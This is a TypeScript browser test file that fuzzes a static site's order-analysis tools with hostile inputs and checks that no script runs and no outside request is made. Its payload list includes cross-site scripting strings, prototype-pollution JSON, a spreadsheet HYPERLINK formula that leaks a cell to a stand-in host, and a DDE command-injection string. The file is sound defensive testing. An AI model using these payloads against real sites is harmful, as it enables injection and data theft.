import { existsSync } from 'node:fs';
import { join } from 'node:path';

import fc from 'fast-check';
import type { Browser, BrowserContext, Frame, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { StaticSite } from '../../scripts/static-server.ts';
import { xlsx } from '../fixtures/orders/formats.ts';
import { launch } from './browser.ts';
import { builtPages, builtSite, DIST } from './site.ts';
import { fillEverything, submitEverything, watch, type Watch } from './watched.ts';

const tools = builtPages().filter((p) => /^\/tools\/[^/]+\/$/.test(p));

/** What other people's text may try. Anything that ran would set `window.hit` or open a dialog. */
const PAYLOADS: Record<string, string> = {
  script: '<script>window.hit=1</script>',
  image: '"><img src=x onerror="window.hit=1">',
  svg: "'><svg/onload=window.hit=1>",
  frame: '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  address: 'javascript:window.hit=1',
  data: 'data:text/html,<script>opener.hit=1</script>',
  closing: '</script></textarea></title></style><script>window.hit=1</script>',
  template: '${window.hit=1}{{constructor.constructor("window.hit=1")()}}',
  formula: '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
  command: "+cmd|' /C calc'!A0",
  prototype: '__proto__',
  prototypeJson: '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
  pattern: '(a+)+$^[\\]{1,99999}.*?',
  control: '\u0000\u0001\u0008\u001b[31m\u007f\u0085',
  direction: '\u202e\u2066淘宝\u2069\u200b\ufeff',
  lonely: '\ud800虚假\udfff',
  numbers: '9'.repeat(400),
  dates: '2026-99-99 0000-00-00 275760-09-14 -1',
  long: '淘宝一般违规扣12分，虚假交易，订单号'.repeat(4000),
  spaces: ' \t\n\u3000'.repeat(5000),
};

/** A payload as an address can carry it: half a character has no form there. */
const forAddress = (text: string): string => text.replace(/\p{Surrogate}/gu, '\ufffd').slice(0, 600);

/** Every query name a tool reads, and names that must mean nothing. */
const NAMES = [
  ...[
    'platform',
    'kind',
    'points',
    'date',
    'time',
    'finding',
    'stage',
    'tier',
    'shop',
    'area',
    'q',
    'theme',
    'accent',
    'year',
    'method',
  ],
  ...['__proto__', 'constructor', '__proto__[polluted]', 'toString', 'notice', 'text'],
];

let site: StaticSite;
let browser: Browser;
let context: BrowserContext;
let seen: Watch;
beforeAll(async () => {
  site = await builtSite();
  browser = await launch();
  context = await browser.newContext({ serviceWorkers: 'block' });
  seen = await watch(context);
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
});

/** Nothing ran, nothing was polluted, nothing foreign stands in the page, and the page still answers. */
async function unharmed(page: Page | Frame, what: string): Promise<void> {
  const state = await page.evaluate(() => ({
    hit: 'hit' in window,
    polluted: 'polluted' in {},
    foreign: [...document.querySelectorAll('img[src="x"], svg[onload], iframe[srcdoc], script:not([type*=json]):not([src])')]
      .map((e) => e.outerHTML)
      .filter((html) => html.includes('hit')),
    links: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*(javascript|data):/i.test(a.getAttribute('href') ?? ''))
      .length,
    alive: document.querySelector('main h1, h1') !== null,
  }));
  expect(state, what).toEqual({ hit: false, polluted: false, foreign: [], links: 0, alive: true });
}

describe.each(tools)('%s', (tool) => {
  it('takes any address', async () => {
    const page = await context.newPage();
    const payloads = Object.entries(PAYLOADS).map(([name, text]) => [name, forAddress(text)] as const);
    // Every payload stands once under every name: in each round all names are given, each with the next payload.
    for (const [round] of payloads.entries()) {
      const query = new URLSearchParams(NAMES.map((name, i) => [name, payloads[(i + round) % payloads.length]?.[1] ?? '']));
      // The embed is the same tool without the page around it, hence quicker to open again and again.
      await page.goto(`${site.url}${tool.replace('/tools/', '/embed/')}?${query.toString()}`, { waitUntil: 'domcontentloaded' });
      await unharmed(page, `${tool} ${round}`);
    }
    await page.close();
  });

  it('takes any message from the page around it', async () => {
    const page = await context.newPage();
    await page.goto(`${site.url}/reference/embed/`);
    const src = tool.replace('/tools/', '/embed/');
    await page.evaluate(
      async ({ address, payloads }) => {
        const frame = document.createElement('iframe');
        frame.src = address;
        document.body.append(frame);
        await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
        for (const payload of payloads)
          for (const message of [
            payload,
            { zhendan: payload },
            { zhendan: 'height', value: payload },
            { type: payload, data: payload, query: payload, __proto__: { polluted: 1 } },
            null,
            1e308,
          ])
            frame.contentWindow?.postMessage(message, '*');
      },
      { address: src, payloads: Object.values(PAYLOADS) },
    );
    const inside = page.frames().find((frame) => frame.url().includes(src));
    expect(inside).toBeDefined();
    if (inside) await unharmed(inside, `${tool} message`);
    await unharmed(page, `${tool} message, outside`);
    await page.close();
  });

  it('takes any text in any field', async () => {
    const page = await context.newPage();
    await page.goto(site.url + tool);
    for (const [name, text] of Object.entries(PAYLOADS)) {
      await fillEverything(page, text);
      await submitEverything(page);
      await unharmed(page, `${tool} ${name}`);
    }
    await page.close();
  });

  it('takes random text', async () => {
    const page = await context.newPage();
    await page.goto(site.url + tool);
    const piece = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.constantFrom(...Object.values(PAYLOADS).filter((p) => p.length < 500)),
      fc.constantFrom('淘宝', '扣12分', '2026年11月20日', '72小时内', '订单号：000000000000000000', '刷单', '保证金', '\n', '，'),
    );
    for (const pieces of fc.sample(fc.array(piece, { maxLength: 20 }), { seed: 20261123, numRuns: 12 })) {
      const text = pieces.join('');
      await fillEverything(page, text);
      await submitEverything(page);
      await unharmed(page, `${tool} ${JSON.stringify(text)}`);
    }
    await page.close();
  });

  it('takes any file', async () => {
    const page = await context.newPage();
    await page.goto(site.url + tool);
    for (const input of await page.locator('main input[type=file]').all()) {
      const rows = Object.values(PAYLOADS)
        .filter((p) => p.length < 500)
        .map((p) => `"${p.replaceAll('"', '""')}","${p.replaceAll('"', '""')}"`);
      const cells = [
        ['订单编号', '=1+1<script>window.hit=1</script>'],
        ...Object.values(PAYLOADS)
          // XML has no way to write these; a file with them is a broken file.
          .filter((p) => p.length < 500 && !/[\0-\x08\x0b-\x1f\ud800-\udfff]/.test(p))
          .map((p) => [p, p]),
      ];
      const name = '"><img src=x onerror=window.hit=1>..⁄__proto__';
      for (const file of [
        { name: `${name}.csv`, buffer: Buffer.from(`订单编号,"=1+1<script>window.hit=1</script>"\n${rows.join('\n')}\n`) },
        { name: `${name}.xlsx`, buffer: Buffer.from(xlsx({ '&lt;b&gt;表': cells })) },
        { name: `${name}.xlsx`, buffer: Buffer.from(xlsx({ ['__proto__']: cells }).subarray(0, 300)) },
      ]) {
        await input.setInputFiles({ ...file, mimeType: 'application/octet-stream' });
        await submitEverything(page);
        await page.waitForTimeout(200);
        await unharmed(page, `${tool} file ${file.name.slice(-5)}`);
      }
    }
    await page.close();
  });
});

describe('other doors', () => {
  it.runIf(existsSync(join(DIST, 'search/index.html')))('the search page takes any query', async () => {
    const page = await context.newPage();
    for (const [name, text] of Object.entries(PAYLOADS)) {
      await page.goto(`${site.url}/search/?q=${encodeURIComponent(forAddress(text))}`);
      // A query of nothing but spaces asks nothing, and the page waits for one.
      if (forAddress(text).trim() !== '')
        await page.locator('[data-search-status]:not([data-search-status=searching])').first().waitFor({ state: 'attached' });
      await unharmed(page, `search ${name}`);
    }
    await page.close();
  });

  it('the case filter takes any address', async () => {
    const page = await context.newPage();
    for (const text of Object.values(PAYLOADS)) {
      const value = encodeURIComponent(forAddress(text));
      await page.goto(`${site.url}/cases/?kind=${value}&method=${value}&${value}=1#${value}`, { waitUntil: 'domcontentloaded' });
      await unharmed(page, 'cases');
    }
    await page.close();
  });
});

describe('in all of this', () => {
  it('nothing asked another host, opened a dialog or threw', () => {
    expect(seen.requests.length).toBeGreaterThan(100);
    expect(
      seen.requests.filter((r) => !r.url.startsWith(`${site.url}/`) && !/^(blob|data):/.test(r.url)).map((r) => r.url),
    ).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect([...new Set(seen.trouble.map((t) => t.replace(/\?\S*/, '?…')))]).toEqual([]);
  });
});
